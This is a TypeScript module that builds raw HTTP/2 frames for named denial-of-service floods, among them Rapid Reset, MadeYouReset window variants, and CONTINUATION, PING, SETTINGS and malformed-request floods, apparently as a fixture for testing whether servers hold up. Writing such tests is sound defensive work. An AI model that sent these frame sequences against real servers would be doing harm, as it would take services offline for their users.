import { randomBytes } from 'node:crypto';
import { flags, frame, frameTypes, headerBlock } from './raw-http2.ts';

export type Field = readonly [name: string, value: string];

/** The pseudo-header fields of a request. */
export const pseudo = (more: Partial<Record<'method' | 'path' | 'scheme' | 'authority', string>> = {}): Field[] => {
  const { method = 'POST', path = '/a', scheme = 'https', authority = 'shop.example' } = more;
  return [
    [':method', method],
    [':path', path],
    [':scheme', scheme],
    [':authority', authority],
  ];
};

/** A request for /a as one frame; a POST whose body is to come if `end` is false. */
export const request = (stream: number, end = true): Buffer =>
  frame(
    frameTypes.headers,
    flags.endHeaders | (end ? flags.endStream : 0),
    stream,
    headerBlock(pseudo({ method: end ? 'GET' : 'POST' })),
  );
const setting = (id: number, value: number): Buffer => {
  const bytes = Buffer.alloc(6);
  bytes.writeUInt16BE(id, 0);
  bytes.writeUInt32BE(value, 2);
  return bytes;
};
const number = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

/** What a client sends again and again: a turn of the flood by its number. */
export const http2Floods: Record<string, (turn: number) => Buffer[]> = {
  'rapid reset': (turn) => [request(turn * 2 + 1), frame(frameTypes.reset, 0, turn * 2 + 1, number(8))],
  'made-you-reset: a window that overflows': (turn) => [
    request(turn * 2 + 1, false),
    frame(frameTypes.window, 0, turn * 2 + 1, number(0x7fffffff)),
  ],
  'made-you-reset: a window of zero': (turn) => [
    request(turn * 2 + 1, false),
    frame(frameTypes.window, 0, turn * 2 + 1, number(0)),
  ],
  PING: () => [frame(frameTypes.ping, 0, 0, randomBytes(8))],
  SETTINGS: (turn) => [frame(frameTypes.settings, 0, 0, setting(4, 65_535 + (turn % 100)))],
  CONTINUATION: (turn) => [
    ...(turn === 0 ? [frame(frameTypes.headers, 0, 1, headerBlock(pseudo()))] : []),
    frame(frameTypes.continuation, 0, 1, headerBlock([['x-a', 'b'.repeat(50)]])),
  ],
  'empty DATA': (turn) => [...(turn === 0 ? [request(1, false)] : []), frame(frameTypes.data, 0, 1)],
  WINDOW_UPDATE: () => [frame(frameTypes.window, 0, 0, number(1))],
  PRIORITY: (turn) => [frame(frameTypes.priority, 0, turn * 2 + 1, Buffer.concat([number(0), Buffer.from([1])]))],
  'malformed requests': (turn) => [
    frame(frameTypes.headers, flags.endHeaders | flags.endStream, turn * 2 + 1, headerBlock([['x', 'y']])),
  ],
};
